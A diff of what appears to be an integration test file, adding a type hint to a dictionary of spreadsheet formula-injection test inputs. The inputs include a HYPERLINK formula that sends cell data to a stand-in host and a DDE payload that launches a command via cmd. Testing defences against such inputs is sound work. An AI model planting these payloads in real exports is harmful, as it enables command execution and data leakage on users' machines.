@@ -22,7 +22,7 @@ from tests.platform import RunningService, running
 pytestmark = pytest.mark.integration
 
 HEADERS = ["姓名", "所在党组织"]
-FORMULAS = {
+FORMULAS: dict[str, dict[str, Any]] = {
     "=2+5": {},
     '=HYPERLINK("http://example.com/?q="&D2,"点我")': {"address": "+86 138 0000 0001"},
     "@SUM(1+1)": {"post": "=cmd|' /C calc'!A0", "specialties": ["-2+3", "书法"]},
